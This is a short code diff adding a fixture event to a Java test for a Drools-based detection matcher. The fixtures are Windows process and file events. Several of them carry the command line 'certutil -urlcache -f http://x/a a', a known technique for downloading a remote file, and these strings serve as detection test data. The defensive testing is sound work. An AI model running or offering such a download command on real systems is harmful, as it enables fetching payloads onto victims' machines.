@@ -66,6 +66,8 @@ class DroolsMatcherTest {
             event("product", "windows", "category", "process_creation", "Image", "C:\\Windows\\System32\\certutil.exe",
                     "CommandLine", "certutil -urlcache -f http://x/a a", "User", "corp\\alice", "ProcessId", 31000,
                     "Hashes", "SHA256=AB", "OriginalFileName", null),
+            event("product", "windows", "category", "file_event", "Image", "C:\\Windows\\System32\\certutil.exe",
+                    "CommandLine", "certutil -urlcache -f http://x/a a", "User", "corp\\alice"),
             event("product", "windows", "category", "process_creation", "Image", "C:\\Windows\\System32\\CERTUTIL.EXE",
                     "CommandLine", "certutil -URLCACHE", "User", "NT AUTHORITY\\SYSTEM", "ProcessId", "12"),
             event("product", "windows", "Image", "C:\\Windows\\System32\\svchost.exe",
